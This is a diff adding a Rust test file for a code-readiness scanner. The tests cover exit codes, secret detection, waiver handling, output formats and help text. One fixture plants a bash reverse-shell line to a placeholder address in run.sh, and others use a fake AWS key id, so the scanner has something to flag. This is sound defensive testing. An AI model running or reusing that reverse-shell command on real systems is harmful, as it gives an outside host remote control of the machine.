@@ -1,0 +1,197 @@
+//! The program itself, only for wiring: exit code by cause, streams, pipes, help.
+
+use std::path::Path;
+use std::process::{Command, Output, Stdio};
+
+use super::support::write;
+
+/// A private key id that no one owns: the alphabet and length are right, the value is made up.
+const KEY_ID: &str = "AKIAQ3EGRYT5J2W7LKZM";
+
+fn readiness(folder: &Path, arguments: &[&str]) -> Output {
+    Command::new(env!("CARGO_BIN_EXE_readiness"))
+        .args(arguments)
+        .current_dir(folder)
+        .env_clear()
+        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
+        .env("SOURCE_DATE_EPOCH", "1790000000")
+        .stdin(Stdio::null())
+        .output()
+        .unwrap()
+}
+
+fn code(folder: &Path, arguments: &[&str]) -> i32 {
+    let output = readiness(folder, arguments);
+    output.status.code().unwrap_or_else(|| panic!("killed: {}", String::from_utf8_lossy(&output.stderr)))
+}
+
+fn tree() -> tempfile::TempDir {
+    tempfile::Builder::new().prefix("tree").tempdir().unwrap()
+}
+
+#[test]
+fn exit_codes_by_cause() {
+    let clean = tree();
+    write(clean.path(), "src/main.rs", "fn main() {}\n");
+    assert_eq!(code(clean.path(), &["audit", "--deep"]), 0);
+    assert_eq!(code(clean.path(), &["audit", "--deep", "--strict"]), 0);
+
+    let high = tree();
+    write(high.path(), "deploy.ini", format!("aws_access_key_id = {KEY_ID}\n"));
+    assert_eq!(code(high.path(), &["audit", "--deep"]), 1);
+    assert_eq!(code(high.path(), &["audit", "--deep", "--fail-on", "critical"]), 0);
+    assert_eq!(
+        code(high.path(), &["audit", "--only", "secrets"]),
+        1,
+        "a check that is named gets what it needs"
+    );
+
+    let critical = tree();
+    write(critical.path(), "run.sh", "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n");
+    assert_eq!(code(critical.path(), &["audit", "--deep"]), 2);
+
+    let empty = tree();
+    assert_eq!(code(empty.path(), &["audit", "--deep"]), 3);
+    assert_eq!(code(empty.path(), &["audit"]), 3);
+
+    for wrong in [
+        vec!["audit", "--deep", "absent"],
+        vec!["audit", "--no-such-flag"],
+        vec!["audit", "--only", "nonsense"],
+        vec!["audit", "--config", "absent.yaml"],
+        vec!["audit", "--output", "absent/report.txt"],
+        vec!["rules", "XXX-999"],
+        vec![],
+    ] {
+        let output = readiness(clean.path(), &wrong);
+        assert_eq!(output.status.code(), Some(4), "{wrong:?}");
+        assert!(output.stdout.is_empty(), "{wrong:?} prints nothing on standard output");
+        assert!(!output.stderr.is_empty(), "{wrong:?} says why on standard error");
+    }
+}
+
+#[test]
+fn a_wholly_ignored_tree_is_incomplete() {
+    let folder = tree();
+    assert!(Command::new("git").args(["init", "-q"]).current_dir(folder.path()).status().unwrap().success());
+    write(folder.path(), ".git/info/exclude", "*\n");
+    write(folder.path(), "secret.txt", KEY_ID);
+    assert_eq!(code(folder.path(), &["audit", "--deep"]), 3);
+    // What git tracks is read although it is ignored.
+    let add =
+        Command::new("git").args(["add", "-f", "secret.txt"]).current_dir(folder.path()).status().unwrap();
+    assert!(add.success());
+    assert_eq!(code(folder.path(), &["audit", "--deep"]), 1);
+}
+
+#[test]
+fn the_tree_cannot_loosen_its_own_gate() {
+    let folder = tree();
+    write(folder.path(), "deploy.ini", format!("aws_access_key_id = {KEY_ID}\n"));
+    write(folder.path(), "readiness.yaml", "audit:\n  exclude: [deploy.ini]\n");
+    assert_eq!(code(folder.path(), &["audit", "--deep"]), 0, "its own exclusion, shown in the report");
+    assert_eq!(code(folder.path(), &["audit", "--deep", "--no-tree-config"]), 1);
+    let outside = tree();
+    write(outside.path(), "policy.yaml", "gate: {fail_on: high}\n");
+    let policy = outside.path().join("policy.yaml");
+    assert_eq!(code(folder.path(), &["audit", "--deep", "--config", &policy.display().to_string()]), 1);
+
+    write(
+        folder.path(),
+        "readiness.yaml",
+        "waivers:\n- {rule: SEC-001, reason: r, owner: o, expires: 2099-01-01}\n",
+    );
+    assert_eq!(code(folder.path(), &["audit", "--deep"]), 0);
+    assert_eq!(code(folder.path(), &["audit", "--deep", "--no-tree-config"]), 1);
+
+    write(folder.path(), "readiness.yaml", "");
+    write(
+        folder.path(),
+        "deploy.ini",
+        format!("aws_access_key_id = {KEY_ID} # readiness:ignore SEC-001 public by design\n"),
+    );
+    assert_eq!(code(folder.path(), &["audit", "--deep"]), 0);
+    assert_eq!(code(folder.path(), &["audit", "--deep", "--no-tree-config"]), 1);
+}
+
+#[test]
+fn the_same_input_gives_the_same_bytes() {
+    let folder = tree();
+    for index in 0..200 {
+        write(
+            folder.path(),
+            &format!("src/{}/{index}.ini", index % 7),
+            format!("aws_access_key_id = {KEY_ID}\nx = {index}\n"),
+        );
+    }
+    for format in ["json", "markdown", "sarif", "junit", "terminal", "github"] {
+        let first = readiness(folder.path(), &["audit", "--deep", "--format", format]).stdout;
+        for _ in 0..3 {
+            let again = readiness(folder.path(), &["audit", "--deep", "--format", format]).stdout;
+            assert!(first == again, "{format} differs between runs");
+        }
+        assert!(!String::from_utf8_lossy(&first).contains(KEY_ID), "{format} shows a secret");
+    }
+}
+
+#[test]
+fn several_reports_at_once() {
+    let folder = tree();
+    write(folder.path(), "src/main.rs", "fn main() {}\n");
+    let out = tree();
+    let path = |name: &str| out.path().join(name).display().to_string();
+    let (json, sarif, markdown, junit) = (path("r.json"), path("r.sarif"), path("r.md"), path("r.xml"));
+    let output = readiness(
+        folder.path(),
+        &["audit", "--deep", "--json", &json, "--sarif", &sarif, "--markdown", &markdown, "--junit", &junit],
+    );
+    assert_eq!(output.status.code(), Some(0));
+    for file in [&json, &sarif] {
+        serde_json::from_slice::<serde_json::Value>(&std::fs::read(file).unwrap()).unwrap();
+    }
+    assert!(std::fs::read_to_string(markdown).unwrap().len() > 50);
+    assert!(std::fs::read_to_string(junit).unwrap().starts_with("<?xml"));
+    assert_eq!(code(folder.path(), &["audit", "--json", "-", "--sarif", "-"]), 4);
+    let alone = readiness(folder.path(), &["audit", "--deep", "--json", "-"]);
+    serde_json::from_slice::<serde_json::Value>(&alone.stdout).unwrap();
+}
+
+#[test]
+fn a_reader_that_goes_away_changes_nothing() {
+    let folder = tree();
+    write(folder.path(), "deploy.ini", format!("aws_access_key_id = {KEY_ID}\n"));
+    let mut child = Command::new(env!("CARGO_BIN_EXE_readiness"))
+        .args(["audit", "--deep", "--format", "json"])
+        .current_dir(folder.path())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    drop(child.stdout.take());
+    let output = child.wait_with_output().unwrap();
+    assert_eq!(output.status.code(), Some(1));
+    assert!(output.stderr.is_empty(), "{}", String::from_utf8_lossy(&output.stderr));
+}
+
+#[test]
+fn every_command_has_help_with_examples() {
+    let folder = tree();
+    for command in [
+        vec!["--help"],
+        vec!["audit", "--help"],
+        vec!["rules", "--help"],
+        vec!["init", "--help"],
+        vec!["completions", "--help"],
+    ] {
+        let output = readiness(folder.path(), &command);
+        let text = String::from_utf8_lossy(&output.stdout).into_owned();
+        assert_eq!(output.status.code(), Some(0), "{command:?}");
+        assert!(
+            text.contains("Examples:") && text.matches("\n  readiness ").count() >= 2,
+            "{command:?} shows two examples:\n{text}"
+        );
+    }
+    assert_eq!(code(folder.path(), &["--version"]), 0);
+    assert_eq!(code(folder.path(), &["completions", "bash"]), 0);
+    assert_eq!(code(folder.path(), &["rules", "SEC-001"]), 0);
+}
